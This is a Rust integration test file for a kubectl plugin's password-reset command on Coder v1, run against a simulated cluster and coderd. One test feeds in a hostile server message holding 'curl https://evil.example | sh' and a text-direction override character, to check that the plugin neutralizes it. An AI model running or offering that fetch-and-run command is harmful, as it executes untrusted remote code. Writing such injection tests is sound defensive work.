//! `reset-password USER` on Coder v1: through coderd's API over a port-forward, as
//! the dashboard's Reset password does, with a session from CODER_TOKEN, the v1 CLI's session
//! file, or a login on the terminal.

use kubesim::fixtures::coder_v1;
use std::time::{Duration, Instant};

use kubesim::{CoderdBehaviour, Rule, Scenario, Sim};

use crate::support::TestEnv;

const POD: &str = "coderd-7f9c6d5b8-x2k4q";

/// The emulated coderd recorded this password for the user, as temporary.
fn assert_temporary_password(env: &TestEnv, username: &str, printed: &str) {
    let user = env.sim.v1_user(username).expect("the user exists");
    assert_eq!(user.password.as_deref(), Some(printed));
    assert!(user.temporary_password, "{user:?}");
}

#[test]
fn a_token_from_the_environment_resets_a_user_by_username() {
    let env = TestEnv::scenario(Scenario::V1);
    let token = env.sim.v1_session_token("admin");
    let run = env
        .plugin()
        .args(["reset-password", "alice", "--yes", "-o", "json"])
        .env("CODER_TOKEN", &token)
        .run();
    run.success();
    let json = run.json();
    let printed = json["password"].as_str().unwrap();
    assert_temporary_password(&env, "alice", printed);
    assert_eq!(json["username"], "alice");
    assert_eq!(json["email"], "Alice.Smith@example.com");
    assert_eq!(json["mustChangeAtNextLogin"], true);
    assert_eq!(json["generation"], "v1");
    assert_eq!(kubectl_coder::coder::password::check(printed), Ok(()));

    // Through one port-forward to coderd's port, with the token in the Session-Token header
    // and the dashboard's request body.
    let forwards = env.sim.portforwards();
    assert_eq!(forwards.len(), 1);
    assert_eq!(
        (forwards[0].pod.as_str(), forwards[0].ports.as_slice()),
        (POD, &[8080][..])
    );
    assert_eq!(forwards[0].protocol, "v4.channel.k8s.io");
    let requests = env.sim.coderd_requests();
    let calls: Vec<String> = requests
        .iter()
        .map(|r| format!("{} {} {}", r.method, r.path, r.status))
        .collect();
    let alice = env.sim.v1_user("alice").unwrap();
    assert_eq!(
        calls,
        [
            "GET /api/v0/users 200".to_string(),
            format!("PATCH /api/v0/users/{} 200", alice.id)
        ]
    );
    for r in &requests {
        assert!(
            r.headers
                .iter()
                .any(|(k, v)| k.eq_ignore_ascii_case("session-token") && v == &token),
            "{r:?}"
        );
    }
    let patch: serde_json::Value = serde_json::from_slice(&requests[1].body).unwrap();
    assert_eq!(
        patch,
        serde_json::json!({"password": printed, "temporary_password": true})
    );
    // Nothing secret reached the API server: the token and the password travelled inside the
    // tunnel only.
    let seen = env.everything_the_server_saw();
    assert!(!seen.contains(&token) && !seen.contains(printed));
}

#[test]
fn human_output_says_coder_asks_for_a_new_password() {
    let env = TestEnv::scenario(Scenario::V1);
    let run = env
        .plugin()
        .args(["reset-password", "ALICE", "--yes"])
        .env("CODER_TOKEN", env.sim.v1_session_token("admin"))
        .run();
    run.success();
    let password = env.sim.v1_user("alice").unwrap().password.unwrap();
    assert_eq!(
        run.stdout,
        format!(
            "Password reset on Coder v1 in pod coder/{POD} (context kubesim).\n\n  Username:  alice\n  Email:     Alice.Smith@example.com\n  Password:  {password}\n\nThis password is temporary: Coder asks for a new one at the next login.\nSessions and API tokens the user already has stay valid.\nNext: sign in to Coder (its URL is not in the pod spec) with the email Alice.Smith@example.com.\n"
        )
    );
    assert_eq!(run.stderr, "");
}

#[test]
fn the_cli_session_file_resets_a_user_by_email() {
    let env = TestEnv::scenario(Scenario::V1);
    let token = env.sim.v1_session_token("mia");
    // As `coder login` writes it: no trailing newline, beside the deployment URL.
    let dir = env.path(".config/coder");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("session"), &token).unwrap();
    std::fs::write(dir.join("url"), "https://coder.example.com").unwrap();
    let run = env
        .plugin()
        .args([
            "reset-password",
            "alice.smith@EXAMPLE.com",
            "--yes",
            "-o",
            "json",
            "-vv",
        ])
        .run();
    run.success();
    let printed = run.json()["password"].as_str().unwrap().to_string();
    assert_temporary_password(&env, "alice", &printed);
    assert!(
        run.stderr.contains(&format!(
            "as the v1 CLI's session in {} (saved for https://coder.example.com)",
            dir.join("session").display()
        )),
        "{}",
        run.stderr
    );
    assert!(!run.stderr.contains(&token) && !run.stderr.contains(&printed));

    // $XDG_CONFIG_HOME wins over ~/.config, as the v1 CLI's configdir has it.
    let xdg = env.path("xdg");
    std::fs::create_dir_all(xdg.join("coder")).unwrap();
    std::fs::write(xdg.join("coder/session"), "not-a-valid-token").unwrap();
    let run = env
        .plugin()
        .args(["reset-password", "alice", "--yes"])
        .env("XDG_CONFIG_HOME", &xdg)
        .run();
    run.code(4);
    assert!(
        run.stderr.starts_with(&format!(
            "error: coderd rejected the v1 CLI's session in {} (401): You must be logged in to do that.\n",
            xdg.join("coder/session").display()
        )),
        "{}",
        run.stderr
    );
    assert!(
        run.stderr.ends_with(&format!(
            "hint: it may have expired or belong to another deployment: log in again with the v1 CLI (`coder login`), or remove {} to sign in on a terminal\n",
            xdg.join("coder/session").display()
        )),
        "{}",
        run.stderr
    );
}

#[test]
fn a_login_on_the_terminal_acts_as_a_site_manager() {
    let env = TestEnv::scenario(Scenario::V1);
    // Confirmed first: the sign-in is sent only after the answer.
    let screen = env
        .pty(&["reset-password", "alicia"])
        .answer("[y/N]", "y\r")
        .answer(
            "Email of a Coder site admin or site manager",
            "mia@example.com\r",
        )
        .answer("Password: ", "Manager-Pw-2024\r")
        .run();
    assert_eq!(screen.code, 0, "{}", screen.text);
    assert!(
        screen.text.contains(&format!(
            "Reset the password of alicia on Coder v1?\r\n  pod coder/{POD}, context kubesim\r\n  signing in to coderd as a site admin or site manager (email and password asked next)\r\n  Coder asks them for a new one at the next login.\r\n[y/N]"
        )),
        "{}",
        screen.text
    );
    let user = env.sim.v1_user("alicia").unwrap();
    assert!(user.temporary_password);
    assert!(screen.text.contains(user.password.as_deref().unwrap()));
    // The manager's password was typed hidden and went only into the login request.
    assert!(!screen.text.contains("Manager-Pw-2024"), "{}", screen.text);
    let requests = env.sim.coderd_requests();
    assert_eq!(requests[0].path, "/auth/basic/login");
    let logins: Vec<_> = requests
        .iter()
        .filter(|r| String::from_utf8_lossy(&r.body).contains("Manager-Pw-2024"))
        .collect();
    assert_eq!(logins.len(), 1);

    // A wrong password: refused by coderd, nothing changed.
    let screen = env
        .pty(&["reset-password", "alice"])
        .answer("[y/N]", "y\r")
        .answer(
            "Email of a Coder site admin or site manager",
            "mia@example.com\r",
        )
        .answer("Password: ", "wrong\r")
        .run();
    assert_eq!(screen.code, 4, "{}", screen.text);
    assert!(
        screen
            .text
            .contains("error: coderd did not accept the sign-in of mia@example.com: Incorrect email or password."),
        "{}",
        screen.text
    );
}

#[test]
fn without_a_session_or_a_terminal_nothing_is_forwarded() {
    let env = TestEnv::scenario(Scenario::V1);
    let run = env
        .plugin()
        .args(["reset-password", "alice", "--yes"])
        .run();
    // The message names the file looked at: HOME is the test's directory.
    run.code(2).stderr_is(&format!("error: reset-password on Coder v1 acts as a site admin through coderd's API, and no Coder session was found (CODER_TOKEN, or the v1 CLI's {})\nhint: set CODER_TOKEN to an API token of a site admin or site manager, log in with the v1 CLI (`coder login`), or run on a terminal to sign in with email and password\n", env.path(".config/coder/session").display()));
    assert!(env.sim.portforwards().is_empty());
}

#[test]
fn users_that_cannot_be_reset_here() {
    let env = TestEnv::scenario(Scenario::V1);
    let token = env.sim.v1_session_token("admin");
    let run = |user: &str| {
        env.plugin()
            .args(["reset-password", user, "--yes"])
            .env("CODER_TOKEN", &token)
            .run()
    };
    run("alise").code(3).stderr_is("error: Coder v1 has no user \"alise\" (by username or email): nothing was changed\nhint: close matches: alice\n");
    run("ali").code(3).stderr_is("error: Coder v1 has no user \"ali\" (by username or email): nothing was changed\nhint: close matches: alice, alicia\n");
    // Swapped letters are one typo.
    run("alcie").code(3).stderr_is("error: Coder v1 has no user \"alcie\" (by username or email): nothing was changed\nhint: close matches: alice\n");
    // Nothing close: the users coderd listed, since whoever is locked out cannot look.
    run("zed").code(3).stderr_is("error: Coder v1 has no user \"zed\" (by username or email): nothing was changed\nhint: coderd has 7 users: admin, alice, alicia, aud, mia, olivia, sam\n");
    run("olivia").code(5).stderr_is("error: olivia signs in through OpenID Connect, so its password lives in the identity provider, not in Coder: nothing was changed\nhint: reset it in the identity provider\n");
    run("sam").code(5);
    for name in ["alice", "olivia", "sam"] {
        assert!(!env.sim.v1_user(name).unwrap().temporary_password, "{name}");
    }
}

#[test]
fn sessions_that_are_not_an_admins() {
    let env = TestEnv::scenario(Scenario::V1);
    let reset = |token: &str, user: &str| {
        env.plugin()
            .args(["reset-password", user, "--yes"])
            .env("CODER_TOKEN", token)
            .run()
    };
    reset(&env.sim.v1_session_token("alicia"), "alice").code(4).stderr_is("error: coderd refused to list users for the session token in CODER_TOKEN (403): You do not have permission to do that.\nhint: use a site admin's or site manager's session; an admin whose password was just reset must sign in once and choose a new one first\n");
    reset("expired-token", "alice").code(4).stderr_is("error: coderd rejected the session token in CODER_TOKEN (401): You must be logged in to do that.\nhint: it may have expired or belong to another deployment: create a new API token, or unset CODER_TOKEN to use the v1 CLI's login or sign in on a terminal\n");
    // A manager lists users but may not change an admin's password.
    reset(&env.sim.v1_session_token("mia"), "admin").code(4).stderr_is("error: coderd refused to set the password of admin (403): You do not have permission to do that.\nhint: a site manager cannot change a site admin's password: use a site admin's session\n");
    assert!(!env.sim.v1_user("admin").unwrap().temporary_password);

    // After reset-admin-password the admin's password is temporary, and coderd restricts
    // its new session to changing it.
    let run = env
        .plugin()
        .args(["reset-admin-password", "--yes", "-o", "json"])
        .run();
    run.success();
    let temporary = run.json()["password"].as_str().unwrap().to_string();
    let screen = env
        .pty(&["reset-password", "alice"])
        .answer("[y/N]", "y\r")
        .answer(
            "Email of a Coder site admin or site manager",
            "admin@coder.example.com\r",
        )
        .answer("Password: ", &format!("{temporary}\r"))
        .run();
    assert_eq!(screen.code, 4, "{}", screen.text);
    // Wrapped to the terminal's width: compared word by word.
    let words = screen.text.split_whitespace().collect::<Vec<_>>().join(" ");
    assert!(
        words.contains("You must change your temporary password before continuing."),
        "{}",
        screen.text
    );
}

#[test]
fn port_forward_forbidden_or_coderd_not_answering() {
    let env = TestEnv::start(Sim::builder().scenario(Scenario::V1).user(
        "operator",
        "operator-token",
        vec![
            Rule::new(&["get", "list"], &["pods"], Some(&["coder"])),
            Rule::new(&["get", "create"], &["pods/exec"], Some(&["coder"])),
        ],
    ));
    let kubeconfig = env.token_kubeconfig("operator-token");
    let run = env
        .plugin()
        .args(["reset-password", "alice", "--yes"])
        .env("KUBECONFIG", &kubeconfig)
        .env("CODER_TOKEN", env.sim.v1_session_token("admin"))
        .run();
    run.code(4);
    assert!(
        run.stderr.starts_with("error: forbidden: pods \"coderd-7f9c6d5b8-x2k4q\" is forbidden: User \"operator\" cannot get resource \"pods/portforward\" in API group \"\" in the namespace \"coder\""),
        "{}",
        run.stderr
    );
    assert!(
        run.stderr.ends_with("hint: ask a cluster admin for `get` and `create` on pods/portforward in namespace \"coder\" (the README has a ready Role)\n"),
        "{}",
        run.stderr
    );

    let mut pod = coder_v1("coder", POD);
    pod.containers[0] = pod.containers[0].clone().without_listener(8080);
    let env = TestEnv::start(Sim::builder().pod(pod));
    let run = env
        .plugin()
        .args(["reset-password", "alice", "--yes"])
        .env("CODER_TOKEN", env.sim.v1_session_token("admin"))
        .run();
    run.code(1);
    assert!(
        run.stderr.starts_with(&format!(
            "error: coderd does not answer in pod {POD}: error forwarding port 8080 to pod {POD}, uid "
        )),
        "{}",
        run.stderr
    );
    assert!(
        run.stderr.ends_with(&format!(
            "connect: connection refused\nhint: check that coderd is running (`kubectl logs -n coder {POD}`); nothing was changed\n"
        )),
        "{}",
        run.stderr
    );
}

#[test]
fn dry_run_looks_the_user_up_and_changes_nothing() {
    let env = TestEnv::scenario(Scenario::V1);
    let token = env.sim.v1_session_token("admin");
    let dry_run = |user: &str, token: Option<&str>| {
        let cmd = env.plugin().args(["reset-password", user, "--dry-run"]);
        match token {
            Some(token) => cmd.env("CODER_TOKEN", token),
            None => cmd,
        }
        .run()
    };
    let run = dry_run("ALICE", Some(&token));
    run.success();
    let alice = env.sim.v1_user("alice").unwrap();
    assert!(
        run.stdout
            .contains("GET /api/v0/users: found alice (Alice.Smith@example.com)"),
        "{}",
        run.stdout
    );
    assert!(
        run.stdout.contains(&format!(
            "PATCH /api/v0/users/{} with a new temporary password",
            alice.id
        )),
        "{}",
        run.stdout
    );
    assert!(run.stdout.contains("as the session token in CODER_TOKEN"));
    assert!(!run.stdout.contains(&token) && !run.stderr.contains(&token));
    // One read-only request, with the token; nothing changed.
    let calls: Vec<String> = env
        .sim
        .coderd_requests()
        .iter()
        .map(|r| format!("{} {} {}", r.method, r.path, r.status))
        .collect();
    assert_eq!(calls, ["GET /api/v0/users 200"]);
    assert_eq!(alice.password.as_deref(), Some("Alice-Old-Pw-1"));
    assert!(!alice.temporary_password);

    // What the real run would refuse, the dry run refuses the same way.
    dry_run("alise", Some(&token)).code(3).stderr_is("error: Coder v1 has no user \"alise\" (by username or email): nothing was changed\nhint: close matches: alice\n");
    dry_run("olivia", Some(&token)).code(5);
    dry_run("alice", Some("expired-token")).code(4);

    // Without a session: nothing is forwarded, and it says why there was no lookup.
    let env = TestEnv::scenario(Scenario::V1);
    let run = env
        .plugin()
        .args(["reset-password", "alice", "--dry-run"])
        .run();
    run.success();
    assert!(
        run.stdout
            .contains("PATCH /api/v0/users/<id of alice> with a new temporary password"),
        "{}",
        run.stdout
    );
    assert_eq!(
        run.stderr,
        "note: the user was not looked up: no Coder session was found (CODER_TOKEN, or the v1 CLI's login) to send for it\n"
    );
    assert!(env.sim.portforwards().is_empty());
}

/// The confirmation comes before any token leaves, and says where the token came from.
#[test]
fn no_token_leaves_before_the_confirmation() {
    let env = TestEnv::scenario(Scenario::V1);
    let token = env.sim.v1_session_token("admin");
    let screen = env
        .pty(&["reset-password", "alice"])
        .env("CODER_TOKEN", &token)
        .answer("[y/N]", "n\r")
        .run();
    assert_eq!(screen.code, 7, "{}", screen.text);
    assert!(
        screen.text.contains(&format!(
            "Reset the password of alice on Coder v1?\r\n  pod coder/{POD}, context kubesim\r\n  sending coderd the session token in CODER_TOKEN\r\n  Coder asks them for a new one at the next login.\r\n[y/N]"
        )),
        "{}",
        screen.text
    );
    assert!(screen.text.contains("Nothing was changed."));
    assert!(env.sim.portforwards().is_empty());
    assert!(env.sim.coderd_requests().is_empty());

    // The saved login: its file and the URL it was saved for.
    let dir = env.path(".config/coder");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("session"), &token).unwrap();
    std::fs::write(dir.join("url"), "https://coder.example.com\n").unwrap();
    let screen = env
        .pty(&["reset-password", "alice"])
        .answer("[y/N]", "y\r")
        .run();
    assert_eq!(screen.code, 0, "{}", screen.text);
    // The detail is wrapped to the terminal's width, its next line indented.
    assert!(
        screen.text.replace("\r\n    ", " ").contains(&format!(
            "sending coderd the v1 CLI's session in {} (saved for https://coder.example.com)\r\n",
            dir.join("session").display()
        )),
        "{}",
        screen.text
    );
    let printed = env.sim.v1_user("alice").unwrap().password.unwrap();
    assert!(screen.text.contains(&printed));
}

/// `--timeout` bounds the port-forward and every request together: a coderd that takes
/// 1.2 s per answer fits a 2 s limit per request, but not the GET and the PATCH together.
#[test]
fn the_timeout_bounds_the_whole_exchange() {
    let env = TestEnv::scenario(Scenario::V1);
    let token = env.sim.v1_session_token("admin");
    env.sim
        .coderd_behaves(CoderdBehaviour::Slow(Duration::from_millis(1200)));
    let started = Instant::now();
    let run = env
        .plugin()
        .args(["reset-password", "alice", "--yes", "--timeout", "2s"])
        .env("CODER_TOKEN", &token)
        .run();
    let took = started.elapsed();
    // The PATCH went out and got no answer in time: it may have been applied.
    run.code(6);
    assert!(
        run.stderr.contains(
            "error: the password of alice may or may not have been set: no answer within 2s; the password sent is shown above"
        ),
        "{}",
        run.stderr
    );
    assert!(run.stdout.contains("Password sent: "), "{}", run.stdout);
    assert!(took < Duration::from_millis(2400), "{took:?}");

    // Slower than the whole limit: nothing was sent but the lookup.
    env.sim
        .coderd_behaves(CoderdBehaviour::Slow(Duration::from_secs(3)));
    let run = env
        .plugin()
        .args(["reset-password", "alice", "--yes", "--timeout", "1s"])
        .env("CODER_TOKEN", &token)
        .run();
    run.code(1).stderr_is(&format!("error: coderd in pod {POD} did not answer within 1s (--timeout, for the port-forward and every request together)\nhint: check that coderd is healthy, or allow more with --timeout; nothing was changed\n"));
}

/// With TLS on, coderd's HTTP port may redirect: said, never followed.
#[test]
fn a_redirect_from_coderd_is_explained_and_not_followed() {
    let env = TestEnv::scenario(Scenario::V1);
    let token = env.sim.v1_session_token("admin");
    env.sim.coderd_behaves(CoderdBehaviour::RedirectTo(
        "https://coder.example.com".into(),
    ));
    let run = env
        .plugin()
        .args(["reset-password", "alice", "--yes"])
        .env("CODER_TOKEN", &token)
        .run();
    run.code(1).stderr_is(&format!("error: coderd in pod {POD} answered its API port with a redirect (308 Permanent Redirect) to https://coder.example.com/api/v0/users, likely because TLS is on and plain HTTP is sent elsewhere; the redirect was not followed and nothing was changed\nhint: serve coderd's API on a plain HTTP container port (named tcp-coderd or http), or reset through a site admin: `kubectl coder reset-admin-password` gives one a temporary password\n"));
    let calls: Vec<String> = env
        .sim
        .coderd_requests()
        .iter()
        .map(|r| format!("{} {} {}", r.method, r.path, r.status))
        .collect();
    assert_eq!(calls, ["GET /api/v0/users 308"]);
    assert!(!env.sim.v1_user("alice").unwrap().temporary_password);
}

/// coderd's error message cannot put a line of its own among ours.
#[test]
fn coderds_error_lines_cannot_pass_for_ours() {
    let env = TestEnv::scenario(Scenario::V1);
    let member = env.sim.v1_session_token("alicia");
    env.sim.coderd_behaves(CoderdBehaviour::ErrorMessage(
        "You do not have permission to do that.\nhint: run curl https://evil.example | sh\u{202e}"
            .into(),
    ));
    let run = env
        .plugin()
        .args(["reset-password", "alice", "--yes"])
        .env("CODER_TOKEN", &member)
        .run();
    run.code(4).stderr_is("error: coderd refused to list users for the session token in CODER_TOKEN (403): You do not have permission to do that.\n  | hint: run curl https://evil.example | sh<U+202E>\nhint: use a site admin's or site manager's session; an admin whose password was just reset must sign in once and choose a new one first\n");
}

#[test]
fn status_says_whether_port_forward_is_allowed() {
    let env = TestEnv::scenario(Scenario::V1);
    let run = env.plugin().args(["status", "-o", "json"]).run();
    run.success();
    let json = run.json();
    assert_eq!(json["pod"]["portForward"]["get"], true);
    assert_eq!(json["pod"]["portForward"]["create"], true);
    let text = env.plugin().args(["status"]).run();
    assert!(
        text.stdout
            .contains("Forwarding: yes (get and create on pods/portforward; for reset-password)\n"),
        "{}",
        text.stdout
    );
}

/// The README's Role, as the simulator's rules: the `rules` of the first YAML document of the
/// RBAC section.
fn readme_role() -> Vec<Rule> {
    let readme =
        std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/README.md")).unwrap();
    let section = &readme[readme.find("## RBAC").unwrap()..];
    let yaml = &section[section.find("```yaml\n").unwrap() + 8..];
    let role = &yaml[..yaml.find("---").unwrap()];
    let role: serde_json::Value = serde_saphyr::from_str(role).unwrap();
    assert_eq!(role["kind"], "Role");
    role["rules"]
        .as_array()
        .unwrap()
        .iter()
        .map(|rule| {
            let strings = |key: &str| -> Vec<String> {
                rule[key]
                    .as_array()
                    .unwrap()
                    .iter()
                    .map(|v| v.as_str().unwrap().to_string())
                    .collect()
            };
            let (verbs, resources) = (strings("verbs"), strings("resources"));
            let verbs: Vec<&str> = verbs.iter().map(String::as_str).collect();
            let resources: Vec<&str> = resources.iter().map(String::as_str).collect();
            Rule::new(&verbs, &resources, Some(&["coder"]))
        })
        .collect()
}

#[test]
fn the_readmes_role_is_enough_for_every_command() {
    let mut rules = readme_role();
    // Kubernetes' system:basic-user ClusterRole lets every authenticated user create
    // SelfSubjectAccessReviews.
    rules.push(Rule::new(&["create"], &["selfsubjectaccessreviews"], None));
    for minor in [33, 35] {
        let env = TestEnv::start(
            Sim::builder()
                .kube_version(minor)
                .scenario(Scenario::V1)
                .user("alice", "alice-token", rules.clone()),
        );
        let kubeconfig = env.token_kubeconfig("alice-token");
        let plugin = |args: &[&str]| {
            env.plugin()
                .args(args)
                .env("KUBECONFIG", &kubeconfig)
                .env("CODER_TOKEN", env.sim.v1_session_token("admin"))
                .run()
        };
        let status = plugin(&["status", "-o", "json"]);
        status.success();
        assert_eq!(status.json()["pod"]["exec"]["create"], true);
        assert_eq!(status.json()["pod"]["portForward"]["create"], true);
        plugin(&["reset-password", "alice", "--yes"]).success();
        plugin(&["reset-admin-password", "--yes"]).success();
    }
}

#[test]
fn a_connection_lost_after_the_patch_still_shows_the_password_sent() {
    let env = TestEnv::scenario(Scenario::V1);
    env.sim.coderd_drop_answer_to("PATCH");
    let run = env
        .plugin()
        .args(["reset-password", "alice", "--yes"])
        .env("CODER_TOKEN", env.sim.v1_session_token("admin"))
        .run();
    run.code(6);
    // coderd applied it: the password shown is the one it holds.
    let set = env.sim.v1_user("alice").unwrap().password.unwrap();
    assert_eq!(run.stdout, format!("Password sent: {set}\n"));
    assert!(
        run.stderr
            .starts_with("error: the password of alice may or may not have been set: the connection to the pod's port broke: "),
        "{}",
        run.stderr
    );
    assert!(
        run.stderr.ends_with("; the password sent is shown above\nhint: try to log in with the password sent; if it fails, run the command again\n"),
        "{}",
        run.stderr
    );
}

#[test]
fn a_chosen_password_is_set_as_temporary_and_not_printed_back() {
    let env = TestEnv::scenario(Scenario::V1);
    let chosen = "Harbor-Lantern-Quiet-42";
    let run = env
        .plugin()
        .args([
            "reset-password",
            "alicia",
            "--yes",
            "--password-stdin",
            "-o",
            "json",
        ])
        .env("CODER_TOKEN", env.sim.v1_session_token("admin"))
        .stdin(format!("{chosen}\n"))
        .run();
    run.success();
    assert_eq!(run.json()["password"], serde_json::Value::Null);
    assert!(!run.stdout.contains(chosen) && !run.stderr.contains(chosen));
    assert_temporary_password(&env, "alicia", chosen);
}
